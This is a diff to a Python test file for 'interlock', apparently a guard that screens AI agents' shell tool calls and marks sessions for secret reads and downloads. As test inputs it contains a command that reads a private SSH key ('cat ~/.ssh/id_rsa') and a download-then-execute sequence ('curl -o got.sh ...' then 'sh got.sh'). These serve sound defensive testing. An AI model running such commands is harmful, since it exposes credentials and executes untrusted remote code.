@@ -16,7 +16,7 @@ from interlock.facts import Recorded
 from interlock.guard import check as walk
 from interlock.guard.check import Guard
 from interlock.guard.organs import NATIVE
-from interlock.ledger import Ledger, Remembered
+from interlock.ledger.sessions import Ledger, Remembered
 from interlock.model.action import ALLOW, ASK, DENY, REVIEW, THROTTLE, VERDICT_ALLOW, VERDICT_ASK, VERDICT_DENY, WARN, Action, Verdict
 from interlock.model.call import Outcome, ToolCall
 from interlock.model.decision import Approval, Decision, Finding, Obligation
@@ -361,8 +361,13 @@ def test_what_is_no_workspace(tmp_path: Path, cwd: str) -> None:
     guard = Guard(HARMLESS, ask=NATIVE, facts=Recorded(), audit=Audit(store), ledger=Ledger(store))
     guard.check(CALL.replace(cwd=cwd, roots=(), session="bad"))
     guard.check(CALL.replace(cwd="/home/user/p", roots=(), session="good"))
-    assert Ledger(store).session("bad") == Remembered(True, labels={})
+    assert Ledger(store).session("bad").replace(digest="") == Remembered(True, repeats=1)
     assert Ledger(store).session("good").roots == ("/home/user/p",)
+
+
+def marked(ledger: Ledger, session: str, subject: str = "") -> frozenset[str]:
+    """Return the marks of a session on a path, or on itself."""
+    return ledger.history(session, ledger.session(session)).labels(subject)
 
 
 def test_marks(tmp_path: Path) -> None:
@@ -372,9 +377,9 @@ def test_marks(tmp_path: Path) -> None:
     shell = ToolCall("shell", "Bash", {"command": "cat ~/.ssh/id_rsa"}, "/home/user/p", ("/home/user/p",), session="s")
     Guard(interlock_policy(), facts=Recorded(), audit=Audit(store), ledger=ledger).check(shell.replace(session="denied"))
     Guard(interlock_policy(), ask=NATIVE, facts=Recorded(), audit=Audit(store), ledger=ledger).check(shell)
-    assert ledger.session("s").marked("") == {"secret-read"}
-    assert ledger.session("denied").marked("") == frozenset()
-    assert ledger.session("other").marked("") == frozenset()
+    assert marked(ledger, "s") == {"secret-read"}
+    assert marked(ledger, "denied") == frozenset()
+    assert marked(ledger, "other") == frozenset()
 
 
 def test_downloads_are_marked(tmp_path: Path) -> None:
@@ -384,8 +389,8 @@ def test_downloads_are_marked(tmp_path: Path) -> None:
     guard = Guard(interlock_policy(), ask=NATIVE, facts=Recorded(), audit=Audit(store), ledger=ledger)
     shell = ToolCall("shell", "Bash", {"command": "curl -o got.sh https://h.example.net/x; echo a > made.sh"}, "/home/user/p", session="s")
     guard.check(shell)
-    assert ledger.session("s").marked("/home/user/p/got.sh") == {"downloaded"}
-    assert ledger.session("s").marked("/home/user/p/made.sh") == frozenset()
+    assert marked(ledger, "s", "/home/user/p/got.sh") == {"downloaded"}
+    assert marked(ledger, "s", "/home/user/p/made.sh") == frozenset()
     guard.check(shell.replace(input={"command": "sh got.sh"}))
     assert '"/home/user/p/got.sh":["downloaded"]' in str(last(store)[0]["facts"])
 
